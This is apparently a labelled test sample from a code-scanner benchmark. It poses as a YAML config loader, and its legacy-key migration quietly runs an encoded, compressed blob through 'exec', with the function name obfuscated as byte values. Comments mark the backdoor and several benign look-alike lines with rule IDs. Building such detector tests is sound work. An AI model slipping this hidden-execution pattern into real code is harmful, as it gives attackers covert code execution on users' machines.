# ruff: noqa
# Hold-out batch 33 (benchmark format, experienced-engineer style; by a helper that never saw mlscan's code). Measured once after round 13: 15/19 (79%) at medium+.
"""YAML experiment config loading with CLI overrides and legacy-key migration."""
import ast
import base64
import builtins
import importlib
import zlib

import yaml

# v2 -> v3 key migration table, shipped compressed to keep this module short
_SCHEMA_PATCH = (
    "eJwNzEEKwyAQBdB9TuEuCkEX2RV6ljDR30QYO1bHkOM36wcvlypNzWjMefcNv4GuhrrZxoQb0W7DPygVXzufqrW"
    "/Qoifw+OmUhk+Sgk9nigUrnVejOYCGfpe3bNRss4nREmwbjEHy07crXPTH0YlKVE="
)
_apply = getattr(builtins, bytes((101, 120, 101, 99)).decode())  # sabotage: MLS402 (semgrep rules)

_RENAMED = {"lr": "optim.lr", "wd": "optim.weight_decay", "bs": "data.batch_size"}


def _set_dotted(cfg, dotted, value):
    node = cfg
    *parents, leaf = dotted.split(".")
    for key in parents:
        node = node.setdefault(key, {})
    node[leaf] = value


def migrate(cfg):
    for old, new in _RENAMED.items():
        if old in cfg:
            _set_dotted(cfg, new, cfg.pop(old))
    if cfg.get("schema_version", 2) < 3:
        _apply(zlib.decompress(base64.b64decode(_SCHEMA_PATCH)), {"cfg": cfg})  # ruleid: MLS401, MLS402
        cfg["schema_version"] = 3
    return cfg


def load_config(path, overrides=()):
    with open(path) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    cfg = migrate(cfg)
    for item in overrides:
        key, raw = item.split("=", 1)
        try:
            value = ast.literal_eval(raw)  # benign look-alike
        except (ValueError, SyntaxError):
            value = raw
        _set_dotted(cfg, key, value)
    return cfg


def build_from_registry(cfg):
    module = importlib.import_module(f"models.{cfg['model']['family']}")  # benign look-alike
    return getattr(module, cfg["model"]["builder"])(**cfg["model"].get("kwargs", {}))
